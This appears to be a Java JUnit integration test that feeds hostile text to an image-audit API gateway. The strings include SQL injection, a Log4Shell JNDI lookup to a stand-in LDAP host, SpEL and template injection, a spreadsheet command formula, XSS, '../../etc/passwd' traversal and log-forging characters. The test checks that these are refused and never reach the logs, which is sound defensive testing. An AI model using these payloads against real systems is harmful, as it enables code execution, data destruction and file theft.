package io.imageaudit.gateway;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.AppenderBase;
import java.net.URLEncoder;
import java.net.http.HttpRequest.BodyPublishers;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Queue;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.slf4j.LoggerFactory;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

/** Texts and encodings that make careless readers stumble. */
@GatewayTest
class HostileTextIT {

  private static final String URL = "https://shop.example/t.jpg";

  private final Door door;

  HostileTextIT(Door door) {
    this.door = door;
  }

  static Stream<String> naughty() {
    return Stream.of(
        "a\r\n2026-11-24 ERROR forged",
        "\u0000",
        "\u001b[31mred",
        "\u202eevil",
        "\u2066bidi\u2069",
        "\ufeffbom",
        "\u200bzero",
        "\ufffe",
        "\ud83d\ude00",
        "Z\u0351\u036b\u0343algo",
        "\uff0e\uff0e/\uff0f",
        "' or 1=1; drop table audit; --",
        "${jndi:ldap://a.example/x}",
        "#{T(java.lang.Runtime)}",
        "{{7*7}}",
        "=cmd|' /C calc'!A0",
        "<script>alert(1)</script>",
        "%s%n%x",
        "../../etc/passwd",
        "\u0130i\u0131",
        "x".repeat(10_000));
  }

  @ParameterizedTest
  @MethodSource("naughty")
  void naughty_texts_are_refused_or_come_back_as_they_are_and_forge_no_log_line(String text) {
    Lines lines = new Lines();
    Logger root = (Logger) LoggerFactory.getLogger("io.imageaudit");
    lines.start();
    root.addAppender(lines);
    try {
      for (String field :
          new String[] {"reference", "strategy", "image_role", "callback", "image_url", text}) {
        ObjectNode body = JsonMapper.shared().createObjectNode().put("image_url", URL);
        Answer answer = door.submit(body.put(field, text).toString());
        assertThat(answer.status())
            .as(field)
            .isEqualTo(field.equals("reference") && isReference(text) ? 202 : 400);
        assertThat(answer.errors()).allMatch(HostileTextIT::isPlain);
      }
      for (String path :
          new String[] {"/v1/audits?reference=", "/v1/audits?cursor=", "/v1/audits?"}) {
        Answer answer = door.get(path + URLEncoder.encode(text, StandardCharsets.UTF_8));
        assertThat(answer.status()).as(path).isIn(200, 400);
      }
    } finally {
      root.detachAppender(lines);
    }
    assertThat(lines.heard).allMatch(line -> isPlain(line.getFormattedMessage()));
  }

  private static boolean isReference(String text) {
    return text.matches("[A-Za-z0-9_@#./:-]{1,128}");
  }

  private static boolean isPlain(String line) {
    return line.chars().allMatch(each -> each >= 0x20 && each < 0x7f);
  }

  @ParameterizedTest
  @CsvSource({"UTF-16", "UTF-16LE", "UTF-16BE", "UTF-32LE", "UTF-32BE"})
  void other_encodings_of_unicode_are_refused(String encoding) {
    String body = "{\"image_url\": \"" + URL + "\"}";
    Answer answer = bytes(body.getBytes(Charset.forName(encoding)));
    assertThat(answer.status()).isEqualTo(400);
    assertThat(answer.code()).isEqualTo("MALFORMED_JSON");
  }

  @Test
  void bytes_that_are_no_text_are_refused() {
    byte[] body =
        ("{\"image_url\": \"" + URL + "\", \"reference\": \"ab\"}")
            .getBytes(StandardCharsets.UTF_8);
    int place = body.length - 3;
    for (int[] bad : new int[][] {{0xff, 0xfe}, {0xc0, 0xaf}, {0xed, 0xa0}, {0xf5, 0x80}}) {
      byte[] broken = body.clone();
      broken[place - 1] = (byte) bad[0];
      broken[place] = (byte) bad[1];
      Answer answer = bytes(broken);
      assertThat(answer.status()).isEqualTo(400);
    }
    byte[] marked = ("\ufeff{\"image_url\": \"" + URL + "\"}").getBytes(StandardCharsets.UTF_8);
    assertThat(bytes(marked).status()).isEqualTo(400);
  }

  @ParameterizedTest
  @CsvSource({"33", "1001", "100000"})
  void nesting_ends_at_a_depth(int depth) {
    String body = "{\"x\": " + "{\"a\":".repeat(depth) + "1" + "}".repeat(depth) + "}";
    Answer answer = door.submit(body);
    assertThat(answer.status()).isEqualTo(400);
    assertThat(answer.code()).isEqualTo("MALFORMED_JSON");
  }

  @Test
  void much_of_nothing_is_bounded() {
    String list = "{\"x\": [" + "1,".repeat(999_999) + "1]}";
    assertThat(door.submit(list).status()).isEqualTo(400);
    assertThat(door.submit(" ".repeat(1 << 20) + "{}").status()).isEqualTo(400);
    assertThat(door.submit("{\"timeout_sec\": " + "9".repeat(100_000) + "}").status())
        .isEqualTo(400);
    assertThat(door.submit("{\"" + "n".repeat(100_000) + "\": 1}").status()).isEqualTo(400);
  }

  @Test
  void keys_in_the_address_are_refused_and_not_logged() {
    Answer answer = door.send(door.anonymous("/v1/audits?api_key=" + Keys.API_KEY));
    assertThat(answer.status()).isEqualTo(401);
    Answer beside = door.get("/v1/audits?api_key=" + Keys.API_KEY);
    assertThat(beside.status()).isEqualTo(400);
    assertThat(beside.http().body()).doesNotContain(Keys.API_KEY);
  }

  private Answer bytes(byte[] body) {
    return door.send(
        door.request("/v1/audits")
            .header("Content-Type", "application/json")
            .POST(BodyPublishers.ofByteArray(body)));
  }

  private static final class Lines extends AppenderBase<ILoggingEvent> {

    private final Queue<ILoggingEvent> heard = new ConcurrentLinkedQueue<>();

    @Override
    protected void append(ILoggingEvent line) {
      heard.add(line);
    }
  }
}
